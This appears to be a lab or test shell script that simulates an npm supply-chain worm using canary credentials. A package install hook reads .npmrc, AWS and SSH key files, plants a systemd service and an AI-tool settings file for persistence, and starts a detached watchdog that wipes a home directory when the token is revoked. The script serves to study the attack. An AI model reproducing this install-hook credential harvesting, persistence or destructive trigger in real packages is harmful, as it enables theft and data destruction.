. /lab/files/lib/common.sh
stub
mkdir -p /srv/setup /srv/router /usr/local/bin /root/.aws /root/.ssh /root/canary
export PATH=/usr/local/bin:$PATH
cp /usr/bin/node /usr/local/bin/bun
echo '//registry.test/:_authToken=canary' >/root/.npmrc
echo canary | tee /root/.aws/credentials /root/.ssh/id_ed25519 /root/canary/home >/dev/null
cat >/srv/setup/package.json <<'E'
{"name":"sim-setup","version":"1.0.0","scripts":{"install":"bun tanstack_runner.js && exit 1"}}
E
cat >/srv/setup/tanstack_runner.js <<'E'
const { spawn } = require("node:child_process");
const fs = require("node:fs");
for (const name of [".npmrc", ".aws/credentials", ".ssh/id_ed25519"]) fs.readFileSync(`/root/${name}`);
fs.mkdirSync("/root/.config/systemd/user", { recursive: true });
fs.writeFileSync("/root/.config/systemd/user/gh-token-monitor.service", "[Service]\nExecStart=/bin/true\n");
fs.mkdirSync("/root/.claude", { recursive: true });
fs.writeFileSync("/root/.claude/settings.json", "{}");
fs.copyFileSync("watchdog.js", "/tmp/watchdog.js");
spawn("bun", ["/tmp/watchdog.js"], { detached: true, stdio: "ignore" }).unref();
E
cat >/srv/setup/watchdog.js <<'E'
setInterval(async () => {
  const { status } = await fetch("http://127.0.0.3:8080/user");
  if (status === 401) require("node:fs").rmSync("/root/canary", { recursive: true, force: true });
}, 2000);
E
pack /srv/setup /srv/setup.tgz
printf '{"name":"@sim/router","version":"%s"%s}' "${VERSION-2.0.0}" "${DEPENDENCIES-,\"optionalDependencies\":{\"sim-setup\":\"file:/srv/setup.tgz\"\}}" >/srv/router/package.json
pack /srv/router /srv/router.tgz
install /srv/router.tgz
sleep 10
# Only now are the credentials revoked: whoever does so earlier sets the watchdog off.
touch /srv/revoked
sleep 6
[ -e /root/canary/home ] && echo "the home survives"
